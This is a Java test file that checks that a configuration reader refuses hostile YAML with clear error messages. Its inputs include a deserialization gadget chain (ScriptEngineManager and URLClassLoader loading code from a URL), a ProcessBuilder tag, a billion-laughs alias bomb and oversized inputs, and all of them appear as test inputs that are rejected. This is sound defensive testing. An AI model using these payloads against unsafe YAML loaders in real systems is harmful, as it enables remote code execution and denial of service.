package io.sparbiter.driver.config;

import static org.assertj.core.api.Assertions.assertThat;

import io.sparbiter.driver.config.space.SpaceReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

class HostileYamlTest {
    private static final String PLAINLY =
            "    Write it out plainly: no deep nesting, few aliases, printable characters.";

    @TempDir
    Path folder;

    private ConfigFolder files;

    @BeforeEach
    void files() {
        files = ConfigFolder.in(folder);
    }

    @Test
    void aTagThatNamesAClassIsRefused() {
        assertThat(files.complaintWithSpace("seed: !!java.lang.ProcessBuilder [touch, /tmp/x]\n"))
                .isEqualTo("x.yaml:2: the tag !!java.lang.ProcessBuilder is not allowed.\n"
                        + "    Remove it; plain YAML is enough.");
        assertThat(files.complaintWithSpace("seed: !mine 3\n"))
                .isEqualTo("x.yaml:2: the tag !mine is not allowed.\n    Remove it; plain YAML is enough.");
    }

    /** What would load a class from the network in a program that constructs what YAML names. */
    @Test
    void aChainOfTagsThatLoadsCodeIsRefusedInEveryFile() {
        String chain =
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]";
        String refused =
                "the tag !!javax.script.ScriptEngineManager is not allowed.\n" + "    Remove it; plain YAML is enough.";

        assertThat(files.complaintWithSpace("start: " + chain + "\n")).startsWith("x.yaml:2: " + refused);
        assertThat(files.complaint("space: " + chain + "\n")).contains("x.yaml:1: " + refused);
        assertThat(files.complaintAboutAxes("conv_1_filters: " + chain + "\n")).startsWith("y.yaml:2: " + refused);
        assertThat(files.complaintWithSpace("seed: 1\n", "data.source=" + chain))
                .startsWith("--set data.source=" + chain + ": " + refused);
    }

    @Test
    void aTagDoesNotMakeAWordANumber() {
        assertThat(files.complaintWithSpace("network: {l1: !!float 1d, dropout: !!int x}\nseed: !!bool x\n"))
                .isEqualTo("""
                        x.yaml:2: network.l1 (1d) must be a number.
                            Maybe you meant 0.00001, the default.
                        x.yaml:2: network.dropout (x) must be a number.
                            Maybe you meant 0.3, the default.
                        x.yaml:3: seed (x) must be an integer.
                            Leave it out to have one drawn.""");
    }

    @Test
    void aliasesThatMultiplyAreRefused() {
        var laughs = new StringBuilder("l0: &l0 [ha]\n");
        for (int i = 1; i < 10; i++) {
            String last = "*l" + (i - 1);
            laughs.append("l%d: &l%d [%s]\n".formatted(i, i, String.join(", ", Collections.nCopies(9, last))));
        }

        assertThat(files.complaint(laughs.toString()))
                .isEqualTo("x.yaml: this can't be read as YAML: Number of aliases for non-scalar nodes exceeds"
                        + " the specified max=50.\n" + PLAINLY);
    }

    @Test
    void fewAliasesThatMultiplyAreReadOnce() {
        var doubled = new StringBuilder("space: space.yaml\nl0: &l0 [ha]\n");
        IntStream.range(1, 25).forEach(i -> doubled.append("l%d: &l%d [*l%d, *l%d]\n".formatted(i, i, i - 1, i - 1)));

        assertThat(files.complaint(doubled.toString())).startsWith("x.yaml:2: l0 is not a known key.");
    }

    @Test
    void aliasesInACircleAreRefused() {
        assertThat(files.complaintWithSpace("start: &a [*a]\n")).isEqualTo("""
                        x.yaml:2: an alias refers to what it is part of.
                            Write the values out.
                        x.yaml:2: start[0] () must be a map of axes.
                            Write it like {axis: value, …}.""");
    }

    @Test
    void deepNestingIsRefused() {
        assertThat(files.complaint("start: " + "[".repeat(5000)))
                .isEqualTo("x.yaml: this can't be read as YAML: Nesting Depth exceeded max 20.\n" + PLAINLY);
    }

    @Test
    void largeFilesAreRefused() {
        assertThat(files.complaint("#" + "x".repeat(1 << 20)))
                .isEqualTo("x.yaml: x.yaml is larger than 1 MiB.\n"
                        + "    Configurations are small; maybe you meant another file.");
    }

    @Test
    void numbersOfManyDigitsAreRefused() {
        assertThat(files.complaintWithSpace("seed: !!int " + "9".repeat(500_000)))
                .isEqualTo("x.yaml:2: seed (" + "9".repeat(60) + "…) must fit in 64 bits.\n"
                        + "    Leave it out to have one drawn.");
    }

    @Test
    void brokenYamlIsReportedWithLineAndColumn() {
        assertThat(files.complaint("space: space.yaml\ntraining:\n  epochs: 3: 4\n"))
                .isEqualTo("x.yaml:3: this is not YAML: mapping values are not allowed here (column 12).\n"
                        + "    Look for a missing quote, bracket or space after a colon, or a wrong indentation,"
                        + " here or just above.");
    }

    @Test
    void aSecondDocumentIsRefused() {
        assertThat(files.complaint("space: space.yaml\n---\nseed: 1\n"))
                .startsWith("x.yaml:2: this is not YAML: but found another document (column 1).");
    }

    @Test
    void aKeyGivenTwiceIsReported() {
        assertThat(files.complaintWithSpace("seed: 1\nseed: 2\n"))
                .isEqualTo("x.yaml:3: the key seed is already in x.yaml:2.\n    Keep one of the two.");
    }

    @Test
    void aKeyIsAWord() {
        assertThat(files.complaintWithSpace("? [a]\n: 1\n"))
                .isEqualTo("x.yaml:2: a key must be a word.\n    Write key: value.");
    }

    @Test
    void controlCharactersAreRefused() {
        String refused = " a value holds a line break or another control character.\n    Write it on one line.";

        assertThat(files.complaintWithSpace("data: {source: \"a\\0b\"}\n")).startsWith("x.yaml:2:" + refused);
        assertThat(files.complaintWithSpace("data: {source: \"\\e[31m\"}\n")).startsWith("x.yaml:2:" + refused);
    }

    @Test
    void textIsUtf8() throws IOException {
        Path file = Files.write(folder.resolve("latin.yaml"), new byte[] {'#', (byte) 0xE4, '\n'});

        assertThat(files.message(() -> SpaceReader.read(file)))
                .isEqualTo("latin.yaml: latin.yaml is not text in UTF-8.\n"
                        + "    Save it in UTF-8; maybe you meant another file.");
    }

    @Test
    void ofManyProblemsTheFirstAreToldAndTheOthersCounted() {
        var keys = new StringBuilder();
        IntStream.range(0, 60_000).forEach(i -> keys.append("key").append(i).append(": 1\n"));

        assertThat(files.complaintWithSpace(keys.toString()))
                .startsWith("x.yaml:2: key0 is not a known key.\n    Known keys here: budget, ")
                .contains("x.yaml:21: key19 is not a known key.\n")
                .doesNotContain("key20 ")
                .endsWith("\n… and 59,980 more.\n    Correct these first.");
    }

    /** Each of as many points lacks each of as many axes: reading would take days, and the words for it all memory. */
    @Test
    @Timeout(value = 20, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void whatMultipliesIsRefusedAtOnce() {
        var axes = new StringBuilder();
        IntStream.range(0, 30_000).forEach(i -> axes.append("  axis").append(i).append(": [1]\n"));
        String points = "start: [" + "{a: 1}, ".repeat(60_000) + "]\n";

        assertThat(files.complaint("space:\n" + axes + points))
                .contains("x.yaml:2: space has 30,000 axes, more than 1,000.\n    Use fewer axes.");
        String some = axes.substring(0, axes.indexOf("  axis1000:"));
        assertThat(files.complaint("space:\n" + some + points))
                .contains("start[0] lacks axis0, axis1, ", "axis49 and 950 more.\n")
                .endsWith(" more.\n    Correct these first.");
    }

    /** A hundred thousand values on each axis are gigabytes. */
    @Test
    void anAxisMoreThanCanBeCountedIsNotReckoned() {
        var axes = new StringBuilder();
        IntStream.range(0, 900).forEach(i -> axes.append("a" + i + ": {min: 1, max: 100000, step: 1}\n"));

        assertThat(files.complaintAboutAxes(axes.toString()))
                .isEqualTo("y.yaml:2: space has at least 100000000000000000000 points, more than 2^63 - 1.\n"
                        + "    Use fewer axes or fewer values.");
    }

    @Test
    void metricsAreFewEnoughToBeLookedAt() {
        var metrics = new StringBuilder();
        var patterns = new StringBuilder();
        IntStream.range(0, 15_000).forEach(i -> {
            metrics.append("    m" + i + ": maximize\n");
            patterns.append("    p" + i + ": '(1)'\n");
        });
        assertThat(files.complaintWithSpace("trial:\n  type: command\n  run: ['true', '${args}']\n  metrics:\n"
                        + metrics + "  report:\n" + patterns))
                .startsWith("x.yaml:6: trial.metrics names 15,000 metrics, more than 1,000.\n")
                .endsWith(" more.\n    Correct these first.");
    }

    @Test
    void aNameOfAHundredThousandPartsIsRefused() {
        String trial = "trial: {type: class, metrics: {auc: maximize}, class: 'a" + ".a".repeat(100_000) + "'}\n";
        assertThat(files.complaintWithSpace(trial)).contains("…) must be the name of a class, as com.acme.Tuned.");
    }

    @Test
    void aValueOfAMegabyteIsNotPrinted() {
        assertThat(files.complaintWithSpace("? k" + "x".repeat(900_000) + "\n: 1\n")
                        .length())
                .isLessThan(5_000);
        String variable = "-".repeat(900_000);
        assertThat(files.complaintWithSpace("trial:\n  type: command\n  env:\n    ? '" + variable + "'\n    : 1\n"))
                .contains(": trial.env.-----")
                .hasSizeLessThan(20_000);
    }

    /** What users take process substitution for would be empty when it is read again. */
    @Test
    void aPipeOrADeviceIsNoFile() {
        assertThat(files.message(() -> SpaceReader.read(Path.of("/dev/zero"))))
                .isEqualTo("/dev/zero: /dev/zero is a pipe or a device.\n"
                        + "    Write its content into a file first, and name that.");
    }

    @Test
    void aSpaceOnAnotherFileSystemIsRefused() {
        assertThat(files.complaint("space: hdfs:///spaces/x.yaml\n"))
                .isEqualTo("x.yaml:1: space (hdfs:///spaces/x.yaml) is a URI of another file system.\n"
                        + "    Copy the space file here, and give its path.");
        assertThat(files.read("space: file://" + folder.resolve("space.yaml") + "\n")
                        .space()
                        .cardinality())
                .isEqualTo(8);
    }

    @Test
    void aFolderIsNoFile() {
        assertThat(files.message(() -> SpaceReader.read(folder)))
                .isEqualTo(folder + ": " + folder + " is a folder.\n    Name a file in it.");
    }
}
